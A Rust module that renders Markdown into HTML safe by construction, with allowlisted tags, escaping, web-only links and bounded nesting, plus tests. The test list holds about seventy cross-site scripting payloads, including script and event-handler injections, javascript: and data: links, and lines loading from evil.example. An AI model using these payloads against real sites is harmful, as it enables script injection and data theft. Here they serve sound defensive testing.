//! Markdown as HTML that is safe by construction.
//!
//! The parser says what it found; the tags are ours, from a list, and every text passes [`escape`]. HTML in the Markdown
//! is text like any other. Links lead to the web or to a mail program and nowhere else; images are not loaded, since that
//! would tell their server who reads. Every tag that is opened is closed, and they nest no deeper than browsers like.

use pulldown_cmark::{Alignment, CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};

use super::{highlight, snapshot::is_on_the_web};
use crate::html::escape;

/// Tags that may be open at a time; deeper ones are left out.
const MAX_DEPTH: usize = 64;
/// Longest address of a link, in bytes.
const MAX_LINK: usize = 2_048;

/// How line breaks within a paragraph are meant.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Lines {
    /// As spaces, as Markdown has it.
    Flow,
    /// As they stand: who types into a box means the lines they see.
    Stand,
}

/// Adds `markdown` as HTML.
pub(super) fn render(html: &mut String, markdown: &str, lines: Lines) {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut writer = Writer {
        html,
        lines,
        open: Vec::new(),
        code: None,
        images: 0,
        alignments: Vec::new(),
        cell: 0,
        in_head: false,
    };
    for event in Parser::new_ext(markdown, options) {
        writer.take(event);
    }
    // The parser closes what it opens; a fault of it must not open our page.
    while let Some(end) = writer.open.pop() {
        writer.html.push_str(end);
    }
}

struct Writer<'a> {
    html: &'a mut String,
    lines: Lines,
    /// How each open tag ends.
    open: Vec<&'static str>,
    /// The code of a block, and its language.
    code: Option<(String, String)>,
    /// Images that are open: what they hold is their description.
    images: usize,
    alignments: Vec<Alignment>,
    cell: usize,
    in_head: bool,
}

impl Writer<'_> {
    fn take(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) => match &mut self.code {
                Some((code, _)) => code.push_str(&text),
                None => escape(self.html, &text),
            },
            Event::Code(code) => {
                self.html.push_str("<code>");
                escape(self.html, &code);
                self.html.push_str("</code>");
            }
            Event::Html(text) | Event::InlineHtml(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                escape(self.html, &text);
            }
            Event::FootnoteReference(name) => escape(self.html, &name),
            Event::SoftBreak if self.lines == Lines::Flow => self.html.push('\n'),
            Event::SoftBreak | Event::HardBreak => self.html.push_str("<br>\n"),
            Event::Rule => self.html.push_str("<hr>\n"),
            Event::TaskListMarker(done) => self.html.push_str(if done { "\u{2611} " } else { "\u{2610} " }),
        }
    }

    /// Opens a tag, or notes that it was too deep for one.
    fn open(&mut self, start: &str, end: &'static str) {
        if self.open.len() < MAX_DEPTH {
            self.html.push_str(start);
            self.open.push(end);
        } else {
            self.open.push("");
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::Paragraph | Tag::HtmlBlock => self.open("<p>", "</p>\n"),
            Tag::Heading { level, .. } => {
                // The page has the first two levels for itself.
                let (start, end) = match level {
                    HeadingLevel::H1 => ("<h3>", "</h3>\n"),
                    HeadingLevel::H2 => ("<h4>", "</h4>\n"),
                    HeadingLevel::H3 => ("<h5>", "</h5>\n"),
                    _ => ("<h6>", "</h6>\n"),
                };
                self.open(start, end);
            }
            Tag::BlockQuote(_) => self.open("<blockquote>\n", "</blockquote>\n"),
            Tag::CodeBlock(kind) => {
                let language = match &kind {
                    CodeBlockKind::Fenced(info) => info.split([' ', ',', '{']).next().unwrap_or_default(),
                    CodeBlockKind::Indented => "",
                };
                self.code = Some((String::new(), language.to_owned()));
            }
            Tag::List(None) => self.open("<ul>\n", "</ul>\n"),
            Tag::List(Some(first)) => self.open(&format!("<ol start=\"{first}\">\n"), "</ol>\n"),
            Tag::Item => self.open("<li>", "</li>\n"),
            Tag::Table(alignments) => {
                self.alignments = alignments;
                self.open("<div class=\"table\"><table>\n", "</tbody></table></div>\n");
            }
            Tag::TableHead => {
                (self.cell, self.in_head) = (0, true);
                self.open("<thead><tr>", "</tr></thead><tbody>\n");
            }
            Tag::TableRow => {
                self.cell = 0;
                self.open("<tr>", "</tr>\n");
            }
            Tag::TableCell => self.start_cell(),
            Tag::Emphasis => self.open("<em>", "</em>"),
            Tag::Strong => self.open("<strong>", "</strong>"),
            Tag::Strikethrough => self.open("<del>", "</del>"),
            Tag::Link { dest_url, .. } => self.start_link(&dest_url),
            Tag::Image { dest_url, .. } => {
                self.images += 1;
                self.start_link(&dest_url);
                self.html.push_str("\u{1f5bc} ");
            }
            // Not asked for, so not found.
            _ => self.open("", ""),
        }
    }

    fn start_cell(&mut self) {
        let (start, end) = match (self.in_head, self.alignments.get(self.cell)) {
            (true, Some(Alignment::Right)) => ("<th class=\"right\">", "</th>"),
            (true, Some(Alignment::Center)) => ("<th class=\"center\">", "</th>"),
            (true, _) => ("<th>", "</th>"),
            (false, Some(Alignment::Right)) => ("<td class=\"right\">", "</td>"),
            (false, Some(Alignment::Center)) => ("<td class=\"center\">", "</td>"),
            (false, _) => ("<td>", "</td>"),
        };
        self.cell += 1;
        self.open(start, end);
    }

    /// A link that can be followed without harm, or else what it says.
    fn start_link(&mut self, address: &str) {
        let is_mail = address.get(..7).is_some_and(|begin| begin.eq_ignore_ascii_case("mailto:"))
            && !address.contains(|c: char| c.is_control() || c.is_whitespace());
        // A description may hold links, and links hold no links.
        let is_free = !self.open.contains(&"</a>");
        if is_free && address.len() <= MAX_LINK && (is_mail || is_on_the_web(address)) {
            let mut start = String::from("<a href=\"");
            escape(&mut start, address);
            start.push_str("\" rel=\"noopener noreferrer nofollow ugc\">");
            self.open(&start, "</a>");
        } else {
            self.open("", "");
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::CodeBlock => {
                if let Some((code, language)) = self.code.take() {
                    self.html.push_str("<pre><code>");
                    highlight::render(self.html, &code, &language);
                    self.html.push_str("</code></pre>\n");
                }
                return;
            }
            TagEnd::TableHead => self.in_head = false,
            TagEnd::Image => self.images = self.images.saturating_sub(1),
            _ => {}
        }
        if let Some(end) = self.open.pop() {
            self.html.push_str(end);
        }
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    fn html(markdown: &str) -> String {
        let mut html = String::new();
        render(&mut html, markdown, Lines::Flow);
        html
    }

    /// The tags of a text, names and attributes as they stand.
    fn tags(html: &str) -> Vec<&str> {
        html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()).collect()
    }

    /// Whether every tag is one of ours and they are closed in order.
    fn check(html: &str) {
        const OURS: [&str; 26] = [
            "p",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "pre",
            "code",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "em",
            "strong",
            "del",
            "a",
            "span",
            "div",
            "br",
            "hr",
            "",
        ];
        let mut open = Vec::new();
        for tag in tags(html) {
            let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
            let bare = name.trim_start_matches('/');
            assert!(OURS.contains(&bare), "<{tag}> in {html}");
            match name {
                "br" | "hr" => {}
                _ if name.starts_with('/') => assert_eq!(open.pop(), Some(bare), "{html}"),
                _ => open.push(bare),
            }
            let allowed = attributes.is_empty()
                || attributes.starts_with("href=\"http")
                || attributes.starts_with("href=\"HTTP")
                || attributes.starts_with("href=\"mailto:")
                || attributes.starts_with("class=\"")
                || attributes.starts_with("start=\"");
            assert!(allowed && !attributes.contains(" on") && !attributes.contains("style"), "<{tag}>");
        }
        assert_eq!(open, [] as [&str; 0], "{html}");
    }

    #[test]
    fn markdown_is_read() {
        let text = "# Title\n\nSome *soft* and **hard** `code` ~~gone~~.\n\n1. one\n2. two\n   - [x] done\n   - [ ] not\n\n\
            > quoted\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\n\n```rust\nlet x = \"<b>\";\n```\n\n[link](https://example.org/?a=b&c)";
        let html = html(text);
        check(&html);
        for part in [
            "<h3>Title</h3>",
            "<em>soft</em>",
            "<strong>hard</strong>",
            "<code>code</code>",
            "<del>gone</del>",
            "<ol start=\"1\">",
            "\u{2611} done",
            "<blockquote>\n<p>quoted</p>",
            "<th class=\"right\">b</th>",
            "<td class=\"right\">2</td></tr>",
            "</tbody></table></div>",
            "<hr>",
            "&lt;b&gt;",
            "<a href=\"https://example.org/?a=b&amp;c\" rel=\"noopener noreferrer nofollow ugc\">link</a>",
        ] {
            assert!(html.contains(part), "{part} is not in {html}");
        }
    }

    #[test]
    fn lines_stand_or_flow() {
        assert_eq!(html("a\nb"), "<p>a\nb</p>\n");
        let mut html = String::new();
        render(&mut html, "a\nb", Lines::Stand);
        assert_eq!(html, "<p>a<br>\nb</p>\n");
    }

    #[test]
    fn nothing_in_a_text_becomes_markup() {
        for nasty in NASTY {
            let html = html(nasty);
            check(&html);
            let mut user = String::new();
            render(&mut user, nasty, Lines::Stand);
            check(&user);
        }
    }

    #[test]
    fn images_are_named_and_not_loaded() {
        let html = html("![a *cat*](https://example.org/cat.png \"title\")");
        check(&html);
        assert!(!html.contains("<img") && html.contains("<em>cat</em>"), "{html}");
        assert!(html.contains("href=\"https://example.org/cat.png\""));
    }

    #[test]
    fn nesting_is_bounded_and_balanced() {
        for text in [
            ">".repeat(5_000) + " deep",
            "- ".repeat(2_000) + "deep",
            "*a **b ".repeat(2_000),
            "[".repeat(5_000) + &"](https://a.example)".repeat(5_000),
            "![".repeat(2_000) + &"](https://a.example)".repeat(2_000),
            "<div>".repeat(5_000),
        ] {
            let html = html(&text);
            check(&html);
            let mut depth: usize = 0;
            for tag in tags(&html) {
                match tag.as_bytes().first() {
                    Some(b'/') => depth -= 1,
                    _ if tag == "br" || tag == "hr" => {}
                    _ => depth += 1,
                }
                assert!(depth <= 2 * MAX_DEPTH);
            }
        }
    }

    /// What others have tried.
    pub(in crate::sharing) const NASTY: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<body onload=alert(1)>",
        "<style>*{background:url(//evil.example)}</style>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<form action=//evil.example><button>x</button></form>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "</article></main><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](&#x6A;avascript:alert(1))",
        "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/v1/users/me)",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](https://a.example/'onmouseover='alert(1))",
        "[x](https://a.example \"title\" onclick=\"alert(1)\")",
        "[x](<https://a.example/><script>alert(1)</script>)",
        "[a][1]\n\n[1]: javascript:alert(1)",
        "[a][1]\n\n[1]: https://a.example \"\\\" onmouseover=alert(1) x=\\\"\"",
        "<javascript:alert(1)>",
        "<https://a.example/\"><script>alert(1)</script>>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://a.example/x.png)",
        "![<script>alert(1)</script>](x)",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "```js\n`${alert(1)}</code><img src=x onerror=alert(1)>\n```",
        "    <script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "# x {onclick=alert(1)}",
        "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | \" onclick=x |",
        "- <script>\n\n  alert(1)\n\n  </script>",
        "> <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "\u{202e}<tpircs>\u{202d}",
        "<a href='x' style='position:fixed;inset:0' onclick=alert(1)>x</a>",
        "**<img/src/onerror=alert(1)>**",
        "\\<script>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example>",
        "<template><script>alert(1)</script></template>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "$<script>alert(1)</script>$",
        "~~<script>~~alert(1)~~</script>~~",
    ];
}
